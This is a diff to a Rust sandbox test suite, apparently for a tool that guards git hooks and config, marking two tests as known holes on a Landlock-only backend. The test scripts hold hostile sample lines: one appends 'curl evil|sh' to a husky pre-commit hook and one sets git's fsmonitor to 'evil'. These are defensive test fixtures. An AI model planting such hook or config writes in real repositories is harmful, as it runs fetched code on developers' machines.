@@ -356,7 +356,10 @@ fn git_hooks_path_in_workspace(w: &World, b: Backend) {
         "echo 'curl evil|sh' >> .husky/pre-commit",
     );
 }
-per_backend!(git_hooks_path_in_workspace);
+per_backend!(
+    git_hooks_path_in_workspace,
+    landlock: "known hole: protected paths are not enforced on the Landlock-only rung (reduced, see doctor)"
+);
 
 /// `.git/hooks` as a symlink to a tracked directory of the workspace (a common set-up): the
 /// hooks git runs live in `githooks/`. Refusing to run (exit 125, nothing attempted) is a
@@ -407,4 +410,7 @@ fn git_config_include_in_workspace(w: &World, b: Backend) {
     let script = "printf '[core]\\n\\tfsmonitor = evil\\n' >> .gitconfig-local";
     unchanged(w, b, defaults, &[&included], script);
 }
-per_backend!(git_config_include_in_workspace);
+per_backend!(
+    git_config_include_in_workspace,
+    landlock: "known hole: protected paths are not enforced on the Landlock-only rung (reduced, see doctor)"
+);
